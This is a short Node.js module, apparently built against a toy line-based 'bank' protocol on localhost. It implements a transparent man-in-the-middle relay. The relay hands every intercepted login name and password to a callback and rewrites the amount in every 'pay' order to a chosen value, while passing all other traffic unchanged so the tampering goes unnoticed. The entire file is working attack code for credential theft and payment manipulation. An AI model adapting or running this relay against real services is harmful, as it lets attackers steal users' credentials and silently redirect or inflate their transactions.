import { connect, createServer } from 'node:net';

/**
 * Starts a relay between clients and the port `target`, and returns it
 * (a net.Server). For each line `login <name> <password>` it calls
 * `heard(name, password)`; in each line `pay <number> to <name>` it puts
 * `amount` in the number's place. Everything else goes through as it is,
 * in both directions; what cannot become such a line, at once.
 */
export function startRelay(port, target, { heard, amount }) {
  const server = createServer({ allowHalfOpen: true });
  server.on('connection', client => {
    const bank = connect({ port: target, host: '127.0.0.1', allowHalfOpen: true });
    let held = [];
    let blind = false;
    client.on('error', () => bank.destroy());
    bank.on('error', () => client.destroy());
    bank.pipe(client);
    client.on('data', chunk => {
      for (const byte of chunk) take(byte);
      if (blind || !mayBeOurs()) letThrough(true);
    });
    client.on('end', () => {
      letThrough(false);
      bank.end();
    });

    function take(byte) {
      held.push(byte);
      if (byte !== 10) return;
      const line = Buffer.from(held).toString();
      const login = /^login (\S+) (.+)\n$/.exec(line);
      const order = /^pay \d+( to .+\n)$/.exec(line);
      if (login && !blind) heard(login[1], login[2]);
      if (order && !blind) held = [...Buffer.from(`pay ${amount}${order[1]}`)];
      letThrough(false);
    }

    function mayBeOurs() {
      const text = String.fromCharCode(...held.slice(0, 6));
      return 'login '.startsWith(text) || 'pay '.startsWith(text.slice(0, 4));
    }

    function letThrough(midway) {
      blind = midway && (blind || held.length > 0);
      if (held.length > 0) bank.write(Buffer.from(held));
      held = [];
    }
  });
  server.listen(port, '127.0.0.1');
  return server;
}
